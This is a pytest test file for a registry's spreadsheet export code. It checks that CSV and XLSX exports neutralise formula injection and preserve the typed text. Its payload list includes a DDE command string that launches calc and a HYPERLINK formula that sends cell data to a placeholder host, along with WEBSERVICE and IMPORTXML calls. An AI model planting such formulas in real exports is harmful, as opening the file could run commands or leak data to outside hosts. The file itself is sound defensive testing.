"""What somebody typed never runs in a spreadsheet, and comes back as it was."""

import csv
import re
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from registry.transfer.cells import plain_cell, safe_cell
from registry.transfer.exports import csv_r, xlsx
from registry.transfer.exports.columns import Column
from registry.transfer.exports.tables import Choice, Content, Table, no_progress

COMMANDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example?d="&A1,"look")',
    "SUM(A1:A9)",
    "IMPORTXML(1)",
    "WEBSERVICE(A1)",
)
SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋")
PAYLOADS = [f"{sign}{command}" for sign in SIGNS for command in COMMANDS]
PAYLOADS += [
    "==1+1",
    "'=1+1",
    "''=1+1",
    "=",
    "-",
    "@",
    "+A1",
    "-A1-B2",
    "@SUM(1)",
    '="a"&"b"',
    "=1+1\n=2",
    ";=1+1",
    ",=1",
    "=ÄÖ",
]
HARMLESS = ["-5.2", "+3", "-7", "46,XX", "'quoted'", "' -5", "a=b", "x", "12", "O'Neill", "'-5", "1e5", "été"]


@pytest.fixture
def table() -> Table:
    """One column of texts, as a form has them."""
    column = Column("text", "Text", "text", lambda record: record, "TXT01")

    def rows() -> Iterator[tuple[str]]:
        return ((text,) for text in PAYLOADS + HARMLESS)

    return Table("typed", "Typed", False, (column,), rows)


def content(table: Table) -> Content:
    return Content(Choice(), (table,), {}, no_progress, None, {})


def test_there_are_sixty_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("text", PAYLOADS + HARMLESS)
def test_what_is_read_is_what_was_written(text):
    assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_stay_as_they_are(text):
    assert safe_cell(text) == text


def test_no_cell_of_a_csv_begins_as_a_formula(table, tmp_path):
    csv_r.write(content(table), tmp_path)
    with (tmp_path / "typed.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells = [row["text"] for row in csv.DictReader(stream)]
    assert [
        cell
        for cell in cells
        if re.match(r"[=+\-@\t\r\n＝＋－＠]", cell) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
    ] == []
    assert [plain_cell(cell) for cell in cells] == PAYLOADS + HARMLESS


def test_no_cell_of_a_workbook_is_a_formula(table, tmp_path):
    xlsx.write(content(table), tmp_path)
    with zipfile.ZipFile(tmp_path / "registry.xlsx") as parts:
        assert not [name for name in parts.namelist() if b"<f>" in parts.read(name)]
    sheet = openpyxl.load_workbook(tmp_path / "registry.xlsx")["typed"]
    cells = [cell for (cell,) in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert [unescape(cell.value) for cell in cells] == PAYLOADS + HARMLESS
